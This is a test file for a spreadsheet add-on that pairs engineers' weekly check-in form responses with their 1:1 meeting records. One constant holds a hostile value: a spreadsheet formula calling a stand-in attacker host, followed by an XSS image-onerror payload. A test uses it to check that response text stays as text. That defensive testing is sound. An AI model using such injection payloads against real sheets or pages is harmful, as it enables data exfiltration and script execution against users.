import type { PreparedView } from '../../../src/contract/prepared';
import { daysFromNow, engineerForm, meetingForm } from '../../support/forms';
import { type AddOnFixture, openAddOn } from '../../support/workbook/add-on-fixture';
import { type LinkedForm, linkedForm } from '../../support/workbook/week-form';

const ada = engineerForm('Ada Lovelace', { email: 'ada@example.com' });
const grace = engineerForm('Grace Hopper', { email: 'grace@example.com' });
const hostile = '=IMPORTXML("https://evil.example", "//a")<img src=x onerror=alert(1)>';
const answers = { feeling: '4', mind: 'The review', topics: '- Pay\n- Rota', progress: 'importer: 80 %' };

let addOn: AddOnFixture;
let form: LinkedForm;

beforeAll(async () => {
  addOn = await openAddOn({ team: [ada, grace] });
  addOn.type('Goals', 'A2', ['Ada Lovelace', 'Project Delivery', 'Ship the importer', '', '', 0, 100, 40]);
  form = await linkedForm(addOn);
});
afterAll(() => addOn.close());

async function prepared(id = ada.id): Promise<PreparedView | undefined> {
  return (await addOn.view('readForm', id)).engineer?.prepared;
}

const saved = (id: string, meetingId: string, ref?: string) =>
  addOn.view(
    'saveMeeting',
    meetingForm(id, { meetingId, date: daysFromNow(0), ...(ref !== undefined && { prepared: ref }) }),
  );

/** What the tab shows, without the moments at which responses were used. */
async function shownTab(): Promise<unknown[][]> {
  return (await addOn.show(form.tab, 'A1:G6')).map((row) =>
    row.map((cell, index) => (index === 6 ? 0 : cell)),
  );
}

test('M334 M336 M337 M338 what an engineer prepared is shown in the form of the engineer, and of nobody else', async () => {
  expect(await prepared()).toBeUndefined();
  form.respond('ADA@example.com', '2026-10-13T16:40+07:00', answers);
  const { tables: _none, ...view } = { tables: null, ...(await prepared()) };
  expect(view).toEqual({
    ref: `${Date.parse('2026-10-13T16:40+07:00')} ada@example.com`,
    day: '2026-10-13',
    time: '16:40',
    isVerified: true,
    answers: [
      { questionId: 'feeling', value: 4, text: '' },
      { questionId: 'top-of-mind', value: null, text: 'The review' },
    ],
    topics: { lines: ['Pay', 'Rota'], more: 0 },
    wins: { lines: [], more: 0 },
    progress: [{ ref: expect.any(String), value: '80' }],
    progressText: 'importer: 80 %',
    isRenamed: false,
  });
  expect(await prepared(grace.id)).toBeUndefined();
});

test('M340 M342 a save marks the response as used and changes no other cell of the tab; the form then shows none', async () => {
  const before = await shownTab();
  const { form: after } = await saved(ada.id, 'first', (await prepared())?.ref);
  expect(after.engineer?.prepared).toBeUndefined();
  expect(await prepared()).toBeUndefined();
  expect(await shownTab()).toEqual(before);
  expect(await addOn.show(form.tab, 'G1:G3')).toEqual([['Used in 1:1'], ['2026-10-14'], ['']]);
});

test('M341 M335 rows can move while the form is open, and an undo marks the response as not used', async () => {
  form.respond('grace@example.com', '2026-10-12T09:00+07:00', { mind: 'Older' });
  form.respond('grace@example.com', '2026-10-14T08:00+07:00', { mind: 'Newer' });
  const ref = (await prepared(grace.id))?.ref;
  addOn.book.sort({ ...addOn.area(form.tab, 'A2:G4') }, [{ column: 1, ascending: false }]);
  const { undo } = await saved(grace.id, 'second', ref);
  expect(await prepared(grace.id)).toBeUndefined();
  expect(await addOn.show(form.tab, 'D2:G3')).toEqual([
    ['Newer', '', '', '2026-10-14'],
    ['The review', answers.topics, answers.progress, '2026-10-14'],
  ]);
  if (undo === null) throw new Error('The save has nothing to undo.');
  const undone = await addOn.view('undoSave', undo);
  expect(undone.engineer?.prepared?.ref).toBe(ref);
  expect((await prepared(grace.id))?.answers).toEqual([
    { questionId: 'top-of-mind', value: null, text: 'Newer' },
  ]);
});

test('M340 a save whose response is gone saves the 1:1, and a save that fails marks nothing', async () => {
  await saved(grace.id, 'third', '123 nobody@example.com');
  const ref = (await prepared(grace.id))?.ref ?? '';
  expect(ref).not.toBe('');
  const fails = meetingForm(grace.id, { meetingId: 'fourth', date: daysFromNow(0), prepared: ref });
  // The mark is a single value. The save is checked after it, and reads a tab again if that fails once.
  let isMarked = false;
  let left = 2;
  const result = await addOn.callWith(
    ({ label }) => {
      isMarked ||= label === 'Range.setValue';
      if (!isMarked || label !== 'Range.getValues' || left === 0) return null;
      left -= 1;
      return 'throws';
    },
    'saveMeeting',
    fails,
  );
  expect(result).toMatchObject({ ok: true, value: { ok: false } });
  expect((await prepared(grace.id))?.ref).toBe(ref);
  await addOn.view('saveMeeting', fails);
  expect(await prepared(grace.id)).toBeUndefined();
});

test('M332 a renamed question is reported, and its answer is left out', async () => {
  addOn.runner.forms.renameQuestion(form.id, 'mind', 'Anything new?');
  form.respond('grace@example.com', '2026-10-14T09:00+07:00', { feeling: '2', mind: 'New' });
  const view = await prepared(grace.id);
  expect(view?.isRenamed).toBe(true);
  expect(view?.answers).toEqual([{ questionId: 'feeling', value: 2, text: '' }]);
  addOn.runner.forms.renameQuestion(form.id, 'mind', 'What’s top of mind for the coming week?');
});

test('M344 text of a response is text: in the form, in the cell that a save writes, and in the responses', async () => {
  form.respond('ada@example.com', '2026-10-14T09:30+07:00', { mind: hostile });
  const view = await prepared();
  const text = view?.answers[0]?.text ?? '';
  expect(text).toBe(hostile);
  await addOn.view(
    'saveMeeting',
    meetingForm(ada.id, {
      meetingId: 'fifth',
      date: daysFromNow(0),
      answers: [{ questionId: 'top-of-mind', value: null, text }],
      prepared: view?.ref ?? '',
    }),
  );
  const rows = await addOn.table('Ada Lovelace');
  expect(rows.map((row) => row['Top of mind'])).toContain(hostile);
  const { rows: count, columns } = addOn.tab(form.tab);
  const formulas = addOn.book.formulas({ sheetId: form.sheetId, row: 1, column: 1, rows: count, columns });
  expect(formulas.flat().join('')).toBe('');
});

test('M335 M342 a save marks its response after a row above it was deleted and another response has arrived', async () => {
  form.respond('grace@example.com', '2026-10-14T09:40+07:00', { mind: 'Hers' });
  const ref = (await prepared(grace.id))?.ref;
  addOn.book.remove(form.sheetId, 'rows', 2, 1);
  form.respond('ada@example.com', '2026-10-14T09:41+07:00', { mind: 'Arrived' });
  await saved(grace.id, 'moved', ref);
  const rows = await addOn.show(form.tab, 'A2:G9');
  const marks = ['Hers', 'Arrived'].map((mind) => rows.find((row) => row[3] === mind)?.[6]);
  expect(marks).toEqual(['2026-10-14', '']);
});

test('M339 M333 an engineer can have several addresses, and an unverified address is reported', async () => {
  addOn.type('Engineers', 'B2', ['ada@example.com, Ada@Home.example']);
  const { linked } = await addOn.view('readCheckIn');
  if (!linked) throw new Error('No form is linked.');
  await addOn.view('linkCheckIn', { sheetId: form.sheetId, fields: linked.fields, isVerified: false });
  form.respond('ada@home.example', '2026-10-14T09:45+07:00', { mind: 'From home' });
  expect(await prepared()).toMatchObject({ isVerified: false, answers: [{ text: 'From home' }] });
});

test('M493 answers at the right of the add-on’s column are read, for one more service call', async () => {
  const calls = () => Object.values(addOn.lastRun().calls).reduce((sum, count) => sum + count, 0);
  const before = await prepared();
  expect(before?.answers).toHaveLength(1);
  const asMade = calls();
  const move = (from: number, to: number) => addOn.book.move(form.sheetId, 'columns', from, 1, to);
  move(7, 1);
  expect(await prepared()).toEqual(before);
  expect(calls()).toBeLessThanOrEqual(asMade + 1);
  move(1, 8);
  expect(await prepared()).toEqual(before);
  expect(calls()).toBe(asMade);
});

test('M342 without its column, and with an unlinked form, the form opens; the responses that arrived can be used', async () => {
  addOn.runner.forms.unlink(form.id);
  expect(await prepared()).toBeDefined();
  addOn.book.remove(form.sheetId, 'columns', 7, 1);
  expect(await prepared()).toBeUndefined();
  await saved(ada.id, 'sixth', '1 ada@home.example');
  expect((await addOn.view('readCheckIn')).linked?.hasUsedColumn).toBe(false);
});
